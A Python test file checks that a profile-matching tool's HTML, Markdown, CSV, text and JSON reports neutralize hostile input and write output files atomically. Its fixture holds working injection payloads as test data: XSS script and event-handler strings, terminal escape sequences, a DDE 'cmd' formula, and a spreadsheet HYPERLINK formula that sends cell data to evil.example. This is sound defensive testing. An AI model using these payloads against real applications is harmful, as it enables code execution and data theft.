"""Every report format keeps hostile profile values inert, and output files are written atomically.

Hostile values go into every profile field that reaches a report (name, id, email,
experience title/employer/description, education title/field). Each format gets the
check its readers need: HTML is compared element by element with the same report for a
harmless profile (a value may change text, never markup); Markdown tables keep their
columns; CSV cells never start a formula; text has no terminal control sequences;
JSON keeps every value exactly, escaped.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fuzzkit import AS_OF, RULE_0844, assert_one_line_error, describe, run_cli, run_process

HOSTILE = {
    "id": 'evil"><img src=x onerror=alert(1)>',
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script> | pipe \x1b[31mred\x1b[0m '
    "\x1b]0;pwned\x07 'single' \"double\"",
    "email": "+SUM(1,2)@evil.example",
    "title": '@SUM(A1:A9) <b onmouseover="steal()">title</b> | a | b \x9b2J',
    "employer": "-2+3 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\ `code` **bold** [x](javascript:alert(1))",
    "description": "<script>alert('desc')</script> fingerprint examiner \t=cmd|' /C calc'!A0",
    "education_title": "<iframe src=javascript:alert(1)></iframe>",
    "field": "law | </td></tr><tr><td> \x1b[2J",
}
TERMINAL_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def profile(values: dict[str, str]) -> dict:
    return {
        "id": values["id"],
        "name": values["name"],
        "email": values["email"],
        "current_employment": {"employer_type": "law_enforcement", "employer_country": "SN"},
        "education": [
            {"title": values["education_title"], "field": values["field"], "level": 7, "years": 5, "completed": True}
        ],
        "experience": [
            {
                "title": values["title"],
                "employer": values["employer"],
                "description": values["description"],
                "start": "2015-01",
                "end": "2020-12",
                "country": "SN",
                "categories": ["fingerprints"],
            },
            {
                "title": values["title"],
                "employer": values["employer"],
                "description": values["description"],
                "start": "2021-01",
                "ongoing": True,
                "country": "SN",
            },  # categories inferred from the text
        ],
        "languages": [{"language": "fr", "level": "C2"}, {"language": "en", "level": "C1"}],
    }


HARMLESS = {key: f"plain {key}" for key in HOSTILE} | {"description": "fingerprint examiner"}


@pytest.fixture(scope="module")
def files(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("safety")
    paths = {}
    for label, values in (("hostile", HOSTILE), ("harmless", HARMLESS)):
        (folder / label).mkdir()
        paths[label] = folder / label / "profile.json"
        paths[label].write_text(json.dumps(profile(values)), encoding="utf-8")
    return paths


def check(path: Path, fmt: str, *extra: str) -> str:
    run = run_cli("check", path, RULE_0844, "--as-of", AS_OF, "--format", fmt, *extra)
    assert run.exit_code in (0, 1, 3), describe(run)
    return run.stdout


def screen(path: Path, fmt: str) -> str:
    run = run_cli("screen", RULE_0844, path.parent, "--as-of", AS_OF, "--format", fmt, "--quiet")
    assert run.exit_code == 0, describe(run)
    return run.stdout


class Structure(HTMLParser):
    """The sequence of elements and attribute names of a page, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(sorted(name for name, _ in attrs))))

    def handle_data(self, data):
        self.text.append(data)


def structure(page: str) -> Structure:
    parser = Structure()
    parser.feed(page)
    parser.close()
    return parser


@pytest.mark.parametrize("command", [check, screen])
def test_html_values_never_become_markup(files, command):
    pages = {label: command(files[label], "html") for label in ("hostile", "harmless")}
    hostile, harmless = structure(pages["hostile"]), structure(pages["harmless"])
    assert hostile.elements == harmless.elements  # not one element or attribute added or changed
    assert not [e for e in hostile.elements if any(a.startswith("on") for a in e[1])]
    text = " ".join(hostile.text)
    if command is screen:  # the applicants are data; their details are HTML fragments, opened on demand
        from screen_support import html_page_data

        decoded = {label: html_page_data(page) for label, page in pages.items()}
        rows = {label: data["rows"] for label, (data, _) in decoded.items()}
        fragments = {label: structure("".join(lines)) for label, (_, lines) in decoded.items()}
        assert fragments["hostile"].elements == fragments["harmless"].elements
        assert not [e for e in fragments["hostile"].elements if any(a.startswith("on") for a in e[1])]
        assert "<script>alert(1)</script>" in rows["hostile"][0][2]  # the name, set as text by the script
        text = " ".join(fragments["hostile"].text)
        assert "<iframe src=javascript:alert(1)>" in text  # shown as text
    else:
        assert "<script>alert(1)</script>" in text and "<iframe src=javascript:alert(1)>" in text  # shown as text


@pytest.mark.parametrize("command", [check, screen])
def test_html_attribute_values_cannot_be_closed(files, command):
    page = command(files["hostile"], "html")
    assert 'evil"><img' not in page and 'onmouseover="steal' not in page
    assert "\x1b" not in page and "\x07" not in page


def _cells(row: str) -> int:
    return len(re.split(r"(?<!\\)\|", row.strip().strip("|")))


@pytest.mark.parametrize("command", [check, screen])
def test_markdown_tables_keep_their_columns_and_no_html(files, command):
    page = command(files["hostile"], "markdown")
    table = None
    for line in page.splitlines():
        if line.startswith("|"):
            if table is None:
                table = _cells(line)  # the header
            assert _cells(line) == table, line
        else:
            table = None
    without_breaks = page.replace("<br>", "")
    assert not re.search(r"(?<!\\)<", without_breaks), "unescaped < outside the report's own <br>"
    assert not TERMINAL_CONTROLS.search(page)
    assert r"\<script\>alert(1)\</script\>" in page


@pytest.mark.parametrize("command", [check, screen])
def test_text_has_no_terminal_escape_sequences(files, command):
    page = command(files["hostile"], "text")
    assert not TERMINAL_CONTROLS.search(page), repr(TERMINAL_CONTROLS.search(page))
    assert "[31m" not in page and "]0;pwned" not in page and "8;;http" not in page  # whole sequences gone
    assert "pwned" not in page
    if command is check:  # (screen shortens names to fit its table)
        assert "pipe red" in page and "'single'" in page


def test_coloured_text_has_only_the_reports_own_colour_codes(files):
    from matcher.api import check_profile
    from matcher.report import render

    page = render(check_profile(files["hostile"], [RULE_0844]), "text", color=True)
    sequences = set(re.findall(r"\x1b[^a-zA-Z]*[a-zA-Z]?", page))
    assert sequences and all(re.fullmatch(r"\x1b\[[0-9;]*m", s) for s in sequences), sequences
    assert "\x07" not in page and "\x9b" not in page and "]0;pwned" not in page


def test_csv_cells_never_start_a_formula(files, tmp_path, monkeypatch):
    bad = tmp_path / "=HYPERLINK(1).yaml"  # the input column shows file names as given
    bad.write_text("experience: [\n")
    (tmp_path / "p.json").write_bytes(files["hostile"].read_bytes())
    monkeypatch.chdir(tmp_path)
    run = run_cli("screen", RULE_0844, "p.json", bad.name, "--as-of", AS_OF, "--format", "csv", "--quiet")
    assert run.exit_code == 4, describe(run)  # an error row, and the report still written
    rows = list(csv.reader(io.StringIO(run.stdout)))
    assert len(rows) == 3
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(1).yaml" in cells
    assert any(c.startswith("'=HYPERLINK(\"http://evil.example") for c in cells)  # neutralized, not dropped
    assert not TERMINAL_CONTROLS.search(run.stdout.replace("\r\n", ""))


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_keeps_values_exactly_and_escapes_controls(files, fmt):
    page = screen(files["hostile"], fmt) if fmt == "jsonl" else check(files["hostile"], fmt)
    assert "\x1b" not in page and "\x07" not in page
    documents = [json.loads(line) for line in page.splitlines()] if fmt == "jsonl" else [json.loads(page)]
    names = [d["profile"]["name"] if "profile" in d else d.get("name") for d in documents]
    assert HOSTILE["name"] in names


# --- atomic writes --------------------------------------------------------------------------


def _leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]


def test_failed_check_leaves_an_existing_report_alone(tmp_path):
    out = tmp_path / "existing.txt"
    out.write_text("the old report\n")
    bad = tmp_path / "bad.yaml"
    bad.write_text("experience:\n  - {title: x, start: 2023-13-40}\n")
    assert_one_line_error(run_cli("check", bad, RULE_0844, "-o", out, "--force"), bad)
    assert out.read_text() == "the old report\n" and not _leftovers(tmp_path)


def test_failed_second_notice_writes_nothing(tmp_path, files):
    out = tmp_path / "existing.md"
    out.write_text("old")
    bad_rules = tmp_path / "rules.yaml"
    bad_rules.write_text("notice: {}\n")
    assert_one_line_error(
        run_cli("check", files["harmless"], RULE_0844, bad_rules, "-f", "markdown", "-o", out, "--force")
    )
    assert out.read_text() == "old" and not _leftovers(tmp_path)


def test_failed_screen_leaves_an_existing_report_alone(tmp_path, files):
    out = tmp_path / "existing.csv"
    out.write_text("old")
    bad_rules = tmp_path / "rules.yaml"
    bad_rules.write_text("requirements: *x\n")
    assert_one_line_error(run_cli("screen", bad_rules, files["harmless"].parent, "-o", out, "--quiet", "--force"))
    assert out.read_text() == "old" and not _leftovers(tmp_path)


def test_report_replaces_the_file_rather_than_rewriting_it(tmp_path, files):
    """A reader holding the old report open keeps reading the complete old report."""
    out = tmp_path / "report.json"
    out.write_text("old complete report\n")
    with out.open() as reader:
        run = run_cli("check", files["harmless"], RULE_0844, "--as-of", AS_OF, "-f", "json", "-o", out, "--force")
        assert run.exit_code in (0, 1, 3), describe(run)
        assert reader.read() == "old complete report\n"
    assert json.loads(out.read_text())["profile"]["id"] == "plain id"
    assert not _leftovers(tmp_path)


@pytest.mark.parametrize("failing", ["fsync", "replace"])
def test_a_crash_while_writing_keeps_the_old_file_and_no_temporary(tmp_path, monkeypatch, failing):
    from matcher.errors import OutputError
    from matcher.files import output

    out = tmp_path / "report.txt"
    out.write_text("old")

    def boom(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(output.os, failing, boom)
    with pytest.raises(OutputError, match="No space left on device"):
        output.write_atomic(out, "new " * 1000)
    assert out.read_text() == "old" and not _leftovers(tmp_path)


@pytest.mark.parametrize("target", ["folder", "missing/dir/report.txt"])
def test_unwritable_output_is_one_line(tmp_path, files, target):
    out = tmp_path / target
    if target == "folder":
        out.mkdir()
    line = assert_one_line_error(run_cli("check", files["harmless"], RULE_0844, "-o", out), out)
    assert "directory" in line or "No such file" in line


def test_output_file_permissions_are_ordinary(tmp_path, files):
    """mkstemp creates 0600 files; a report should get the usual umask-based mode."""
    out = tmp_path / "report.md"
    run_cli("check", files["harmless"], RULE_0844, "-f", "markdown", "-o", out)
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask


# --- file names: terminal escapes and bytes that are not UTF-8 --------------------------------


def test_profile_validate_shows_hostile_file_names_escaped(tmp_path, files):
    hostile = tmp_path / "a\x1b]0;pwned\x07b.json"
    hostile.write_bytes(files["harmless"].read_bytes())
    run = run_process("profile", "validate", hostile)
    assert run.exit_code == 0, describe(run)
    assert run.stdout == f"{tmp_path}/a\\x1b]0;pwned\\x07b.json: ok\n"


@pytest.mark.parametrize(
    "args",
    [
        ("check", "{profile}", RULE_0844, "-f", "json", "-o", "{out}"),
        ("check", "{profile}", RULE_0844, "-f", "json"),
        ("screen", RULE_0844, "{folder}", "-f", "csv", "-o", "{out}", "--quiet"),
        ("screen", RULE_0844, "{folder}", "-f", "html", "--quiet"),
        ("profile", "validate", "{folder}"),
    ],
    ids=["check-o", "check-stdout", "screen-o", "screen-stdout", "validate"],
)
def test_file_names_that_are_not_utf8_never_crash(tmp_path, files, args):
    """A file name with a Latin-1 byte is a surrogate in Python: encoding it for a report
    file (or a strict stdout, as in most UTF-8 locales) raised UnicodeEncodeError."""
    folder = tmp_path / "in"
    folder.mkdir()
    name = os.fsdecode(b"Ren\xe9e.json")
    (folder / name).write_bytes(files["harmless"].read_bytes())
    out = tmp_path / "report.out"
    argv = [str(a).format(profile=folder / name, folder=folder, out=out) for a in args]
    run = run_process(*argv, env={"PYTHONIOENCODING": "utf-8:strict"})
    assert run.exit_code in (0, 1, 3) and "Traceback" not in run.stderr, describe(run)
    written = out.read_bytes() if "-o" in args else run.stdout.encode()
    assert b"Ren" in written
    written.decode("utf-8")  # the report itself is valid UTF-8
